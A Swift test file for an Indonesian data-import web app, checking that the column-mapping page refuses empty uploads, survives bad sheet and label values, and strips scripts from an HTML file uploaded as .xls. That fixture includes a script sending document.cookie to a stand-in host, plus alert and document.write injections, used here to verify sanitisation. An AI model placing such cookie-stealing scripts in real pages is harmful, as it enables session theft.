import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import LumbungDomain
import LumbungStore
import LumbungTestSupport
import LumbungWeb
import Testing

/// The bad input on the mapping page, each a clear Indonesian message before anything is written (two columns
/// to one field, a required field left out and text mapped to a date are in `MappingPageWebTests`).
@Suite struct MappingBadInputWebTests {
    static let fields = ["no_kk", "nik", "nama", "jenis_kelamin", "tanggal_lahir", "shdk", "abaikan"]
    static let header = "Nomor Kartu;Nomor Identitas;Nama Penerima;Gender;Lahir Tanggal;Hubungan KK;Alamat"

    static func upload(_ name: String, _ content: String, client: some TestClientProtocol) async throws -> String {
        try await client.execute(uri: "/impor/petakan", method: .post, headers: ImportWebTests.headers,
                                 body: ImportWebTests.multipart(file: name, content: content)) { response in
            #expect(response.status == .found, "\(name)")
            return try #require(response.headers[.location])
        }
    }

    @Test(arguments: TestDatabase.engines)
    func a_million_empty_looking_rows_under_the_header_are_refused_as_no_data_before_anything_is_written(engine: Database.Engine) async throws {
        // 1,048,576 rows that look like rows (every cell a space or empty) but hold nothing.
        let content = Self.header + "\n" + String(repeating: " ; ;;;  ;;\n", count: 1_048_576)
        try await withWebAppRoles(scope: "52.03", engine: engine) { base, tokens, services, _ in
            let client = SignedInClient(base: base, token: try #require(tokens[.operator]))
            let location = try await Self.upload("kosong.csv", content, client: client)
            // Pratinjau reads the whole file (its dry run): the reason, in Indonesian, and nothing kept.
            try await client.execute(uri: location, method: .post, headers: MappingPageWebTests.form,
                                     body: MappingPageWebTests.body(Self.fields, extra: ["desa": "52.03.01.2001", "aksi": "pratinjau"])) { response in
                #expect(response.status == .badRequest)
                #expect(response.text.contains("kosong.csv hanya berisi judul kolom, tanpa baris data."), "\(response.text.prefix(300))")
                #expect(response.text.contains("Belum ada yang disimpan."))
            }
            for table in ["person", "household", "import_batch"] {
                #expect(try await MappingPageWebTests.count("SELECT COUNT(*) AS n FROM \(table)", services) == 0, "\(table)")
            }
        }
    }

    @Test func a_web_page_with_scripts_is_mapped_as_its_table_and_no_script_reaches_the_page() async throws {
        let page = """
            <html><head><script>window.location = "https://contoh.invalid/?" + document.cookie;</script>
            <style>td { color: red }</style></head><body onload="alert(1)">
            <!-- <table><tr><td>komentar</td></tr></table> -->
            <table><tr><th>Nomor Kartu</th><th>Nomor Identitas</th><th>Nama Penerima</th><th>Gender</th><th>Lahir Tanggal</th><th>Hubungan KK</th><th>Alamat</th></tr>
            <tr><td>5203011106180101</td><td>5203011207850001</td><td>&lt;script&gt;alert(2)&lt;/script&gt;</td><td>L</td><td>12/07/1985</td><td>Kepala Keluarga</td><td>x</td></tr>
            </table><script>document.write("<table><tr><td>jahat</td></tr></table>")</script></body></html>
            """
        try await withWebAppRoles(scope: "52.03") { base, tokens, services, _ in
            let client = SignedInClient(base: base, token: try #require(tokens[.operator]))
            let location = try await Self.upload("unduhan.xls", page, client: client)
            try await client.execute(uri: location, method: .get) { response in
                let html = response.text
                #expect(response.status == .ok)
                // The table's headers and values, the text that looks like a script shown as text, and nothing of the scripts.
                #expect(html.contains("<td>Nama Penerima</td>") && html.contains("&lt;script&gt;alert(2)&lt;/script&gt;"))
                #expect(!html.contains("<script>alert(2)") && !html.contains("contoh.invalid") && !html.contains("jahat") && !html.contains("komentar"))
            }
            try await client.execute(uri: location, method: .post, headers: MappingPageWebTests.form,
                                     body: MappingPageWebTests.body(Self.fields, extra: ["desa": "52.03.01.2001", "aksi": "pratinjau"])) { response in
                #expect(response.status == .ok && response.text.contains("<dt>Baris dibaca</dt><dd>1</dd>"))
                #expect(!response.text.contains("<script>alert(2)"))
            }
            #expect(try await MappingPageWebTests.count("SELECT COUNT(*) AS n FROM person", services) == 0)
        }
    }

    @Test func a_mapping_page_whose_sheet_does_not_exist_or_whose_labels_are_no_official_values_stays_clear() async throws {
        let file = Self.header + "\n5203011106180101;5203011207850001;Lalu Ahmad;L;12/07/1985;Kepala Keluarga;x\n"
        try await withWebAppRoles(scope: "52.03") { base, tokens, _, _ in
            let client = SignedInClient(base: base, token: try #require(tokens[.operator]))
            let location = try await Self.upload("satu.csv", file, client: client)
            // A CSV has one sheet: a sheet number past it (typed into the address) shows the file's only table.
            try await client.execute(uri: location + "?lembar=7", method: .get) { response in
                #expect(response.status == .ok && response.text.contains("Lalu Ahmad"))
            }
            try await client.execute(uri: location + "?lembar=-1", method: .get) { #expect($0.status == .ok) }
            // A label sent for a column no longer coded, or a value that is no official one: left out, not a crash.
            try await client.execute(uri: location, method: .post, headers: MappingPageWebTests.form,
                                     body: MappingPageWebTests.body(Self.fields, extra: ["desa": "52.03.01.2001", "aksi": "pratinjau",
                                                                                         "nilai_0": "L", "nilaikolom_0": "2", "label_0": "Perempuan",
                                                                                         "nilai_1": "L", "nilaikolom_1": "3", "label_1": "Bukan nilai",
                                                                                         "nilai_2": "x", "nilaikolom_2": "99", "label_2": "Laki-laki"])) { response in
                #expect(response.status == .ok)
                #expect(response.text.contains("<td>Laki-laki</td>"), "L stays Laki-laki: no label was taken")
            }
        }
    }
}
